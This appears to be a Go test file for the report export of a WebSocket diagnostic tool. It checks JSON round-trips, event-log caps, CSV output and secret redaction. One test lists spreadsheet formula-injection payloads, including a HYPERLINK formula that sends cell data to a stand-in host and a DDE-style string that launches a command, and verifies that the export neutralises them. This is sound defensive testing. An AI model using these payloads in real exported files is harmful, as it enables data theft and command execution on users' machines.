package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"codeberg.org/wsdoctor/wsdoctor/checks/engine"
)

// The watch travels in the JSON and comes back from Parse as it was
// built: times in UTC, every event, the counts.
func TestWatchJSONRoundTrip(t *testing.T) {
	r := Build(watchedInput())
	l := watchFixture()
	for i := 1; i < len(l.Events); i++ {
		if l.Events[i].At.Before(l.Events[i-1].At) {
			t.Fatalf("the fixture is not in time order at %d: %+v", i, l.Events[i])
		}
	}
	if r.Watch == nil || len(r.Watch.Events) != len(l.Events) {
		t.Fatalf("Build kept %v", r.Watch)
	}
	if got := r.Watch.DropCount(); got != 10 {
		t.Errorf("drops %d, want 10", got)
	}
	b := render(t, r, FormatJSON)
	if err := Validate(decode(t, b)); err != nil {
		t.Fatal(err)
	}
	back, err := Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back.Watch, r.Watch) {
		t.Errorf("the watch did not come back as it was:\n got %+v\nwant %+v", back.Watch, r.Watch)
	}
	if !bytes.Equal(render(t, back, FormatJSON), b) {
		t.Error("the parsed report writes other JSON")
	}
	for _, e := range back.Watch.Events {
		if e.At.Location() != time.UTC {
			t.Fatalf("event time %v not in UTC", e.At)
		}
	}
	// A report without a watch has no "watch" at all, and reads back so.
	plain := render(t, Build(healthyInput()), FormatJSON)
	if bytes.Contains(plain, []byte(`"watch"`)) {
		t.Error("a check alone writes a watch")
	}
	if back, err := Parse(plain); err != nil || back.Watch != nil {
		t.Errorf("without a watch: %v, %v", back.Watch, err)
	}
}

// A 24-hour watch past the log's cap, with long error texts: Build keeps
// what the report can carry, counts the rest in Left, and Parse reads
// what Build wrote.
func TestWatchFullLogParses(t *testing.T) {
	l := longWatch()
	if l.Left == 0 || len(l.Events) != engine.WatchLogCap {
		t.Fatalf("the fixture is not past the cap: %d events, %d left", len(l.Events), l.Left)
	}
	in := healthyInput()
	in.Watch = l
	r := Build(in)
	if len(r.Watch.Events) != engine.WatchLogCap || r.Watch.Left != l.Left {
		t.Errorf("a full log of short events: %d events, %d left; want %d, %d", len(r.Watch.Events), r.Watch.Left, engine.WatchLogCap, l.Left)
	}
	if _, err := Parse(render(t, r, FormatJSON)); err != nil {
		t.Fatalf("a full log: %v", err)
	}
	// Every event's text as long as a report keeps it, and made of what
	// JSON writes six bytes for.
	long := l.Copy()
	for i := range long.Events {
		long.Events[i].Detail = strings.Repeat("<", 1000)
		long.Events[i].From = strings.Repeat("&", 1000)
	}
	in.Watch = &long
	r = Build(in)
	if n := len(r.Watch.Events); n >= engine.WatchLogCap || n < 100 {
		t.Errorf("long texts: %d events kept", n)
	}
	if r.Watch.Left != long.Left+engine.WatchLogCap-len(r.Watch.Events) {
		t.Errorf("left %d does not count the events cut", r.Watch.Left)
	}
	if got := len([]rune(r.Watch.Events[0].Detail)); got != maxWatchField {
		t.Errorf("a detail of 1000 characters kept %d", got)
	}
	if r.Watch.Summary.Drops[engine.WatchSilent] != l.Summary.Drops[engine.WatchSilent] {
		t.Error("the counts changed")
	}
	if _, err := Parse(render(t, r, FormatJSON)); err != nil {
		t.Fatalf("a full log of long texts: %v", err)
	}
}

// More events than a log keeps is not a report wsdoctor wrote.
func TestParseLimitsWatchEvents(t *testing.T) {
	ev := map[string]any{"at": "2026-03-14T08:30:00Z", "kind": "drop", "conn": "busy"}
	for _, n := range []int{MaxWatchEvents, MaxWatchEvents + 1} {
		b := hostileDoc(t, func(d map[string]any) {
			d["watch"] = map[string]any{"target": "x", "start": "2026-03-14T08:30:00Z", "ping_every_ns": 1, "data_every_ns": 1, "summary": map[string]any{}, "events": repeat(ev, n)}
		})
		_, err := Parse(b)
		var le *LimitError
		switch {
		case n == MaxWatchEvents && err != nil:
			t.Errorf("%d events: %v", n, err)
		case n > MaxWatchEvents && (!errors.As(err, &le) || le.What != "watch events" || le.Path != "$.watch.events"):
			t.Errorf("%d events: %v, want the watch events limit", n, err)
		}
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b)
	}
	return rows
}

// The CSV of a watched run is its event log: a header, a row an event,
// times in ISO 8601 with the user's offset, CRLF line ends.
func TestCSVWatch(t *testing.T) {
	r := Build(watchedInput())
	b := render(t, r, FormatCSV)
	if !bytes.HasSuffix(b, []byte("\r\n")) || bytes.Count(b, []byte("\r\n")) != len(r.Watch.Events)+1 {
		t.Errorf("not one CRLF line a row:\n%q", b)
	}
	rows := readCSV(t, b)
	if !reflect.DeepEqual(rows[0], []string{"time", "connection", "event", "detail"}) {
		t.Fatalf("header %q", rows[0])
	}
	if len(rows)-1 != len(r.Watch.Events) {
		t.Fatalf("%d rows for %d events", len(rows)-1, len(r.Watch.Events))
	}
	for i, e := range r.Watch.Events {
		row := rows[i+1]
		when, err := time.Parse(time.RFC3339, row[0])
		if err != nil || !when.Equal(e.At) {
			t.Errorf("row %d: time %q (%v), want %v", i+1, row[0], err, e.At)
		}
		if !strings.HasSuffix(row[0], "+01:00") {
			t.Errorf("row %d: %q is not on the user's clock (+01:00)", i+1, row[0])
		}
		if row[1] != e.Conn || row[2] != string(e.Kind) {
			t.Errorf("row %d: %q, want %s %s", i+1, row, e.Conn, e.Kind)
		}
	}
	// What support filters on is in the detail, as name=value.
	want := map[string]string{
		"2026-03-14T09:44:05.000+01:00": "age_s=843; ended_by=reset; close_code=1006; error=read tcp 10.0.0.5:51234->93.184.216.34:443: connection reset by peer",
		"2026-03-14T09:44:01.000+01:00": "what=wifi; from=CorpNet; to=CorpNet-Guest",
		"2026-03-14T10:42:01.000+01:00": "slept_s=1200",
		"2026-03-14T09:44:13.000+01:00": "took_ms=7000; attempts=2",
	}
	for _, row := range rows[1:] {
		if w, ok := want[row[0]]; ok && row[3] == w {
			delete(want, row[0])
		}
	}
	if len(want) > 0 {
		t.Errorf("rows not found: %q", want)
	}
}

// Without a watch, the CSV is the probe results.
func TestCSVResults(t *testing.T) {
	r := Build(failingInput())
	rows := readCSV(t, render(t, r, FormatCSV))
	if !reflect.DeepEqual(rows[0], []string{"time", "probe", "status", "detail"}) || len(rows)-1 != len(r.Results) {
		t.Fatalf("header %q, %d rows for %d results", rows[0], len(rows)-1, len(r.Results))
	}
	for i, res := range r.Results {
		if rows[i+1][1] != res.Probe || rows[i+1][2] != string(res.Status) {
			t.Errorf("row %d: %q", i+1, rows[i+1])
		}
	}
	if f, ok := FormatOf("watch.CSV"); !ok || f != FormatCSV {
		t.Error("FormatOf(.csv)")
	}
	if f, err := ParseFormat("csv"); err != nil || f != FormatCSV {
		t.Error("ParseFormat(csv)")
	}
}

// No cell of the CSV is a formula to a spreadsheet, whatever a server or
// a hostile saved report put in it, and each reads back as one cell.
func TestCSVInjection(t *testing.T) {
	evil := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
		"\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", `=cmd|"/c calc"!A1`, "a,b\"c\nd",
	}
	l := &engine.WatchLog{Target: "wss://x.example/", Start: w0}
	for i, s := range evil {
		l.Add(engine.WatchEvent{At: at(time.Duration(i) * time.Second), Conn: s, Kind: engine.WatchKind(s), Detail: s})
		l.Add(engine.WatchEvent{At: at(time.Duration(i) * time.Second), Kind: engine.WatchChange, What: s, From: s, To: s})
	}
	in := healthyInput()
	in.Watch = l
	in.NoRedact = true
	for _, r := range []Report{Build(in), func() Report { r := Build(in); r.Watch = l; return r }()} {
		b := render(t, r, FormatCSV)
		rows := readCSV(t, b)
		if len(rows) != len(l.Events)+1 {
			t.Fatalf("%d rows for %d events", len(rows), len(l.Events))
		}
		for _, row := range rows {
			if len(row) != 4 {
				t.Errorf("row of %d cells: %q", len(row), row)
			}
			for _, c := range row {
				if r := []rune(c); len(r) > 0 && strings.ContainsRune("=+-@\t\r＝＋－＠", r[0]) {
					t.Errorf("cell %q starts a formula", c)
				}
				if strings.ContainsAny(c, "\r\n\t") {
					t.Errorf("cell %q is not one line", c)
				}
			}
		}
		// The text is kept, behind the quote mark.
		if !bytes.Contains(b, []byte(`'=HYPERLINK(`)) || !bytes.Contains(b, []byte(`'＝1+1`)) {
			t.Errorf("the evil text is not kept behind a quote mark:\n%s", b)
		}
	}
}

// The watch's free text carries secrets (a proxy's password, a token in a
// close reason, a cookie in an error); no format shows them.
func TestWatchRedacted(t *testing.T) {
	in := secretsInput()
	in.Watch = watchFixture()
	r := Build(in)
	back, err := Parse(render(t, r, FormatJSON))
	if err != nil {
		t.Fatal(err)
	}
	for _, rep := range []Report{r, back} {
		for _, f := range Exports {
			out := render(t, rep, f)
			for _, s := range planted {
				if i := bytes.Index(out, []byte(s)); i >= 0 {
					t.Errorf("%s: secret %q leaked: ...%s...", f, s, out[max(i-60, 0):min(i+len(s)+20, len(out))])
				}
			}
			if f == FormatCSV || f == FormatJSON {
				for _, keep := range []string{"proxy.corp.example:3128", "CorpNet-Guest", "policy: token=" + Mask, "Cookie: " + Mask} {
					if !bytes.Contains(out, []byte(keep)) {
						t.Errorf("%s: %q was removed too", f, keep)
					}
				}
			}
		}
	}
	in.NoRedact = true
	r = Build(in)
	for _, f := range []Format{FormatCSV, FormatJSON} {
		if out := render(t, r, f); !bytes.Contains(out, []byte("PROXYPASSsekret0009")) || !bytes.Contains(out, []byte("TOKENsekret0006")) {
			t.Errorf("%s: --no-redact lost the watch's text", f)
		}
	}
}
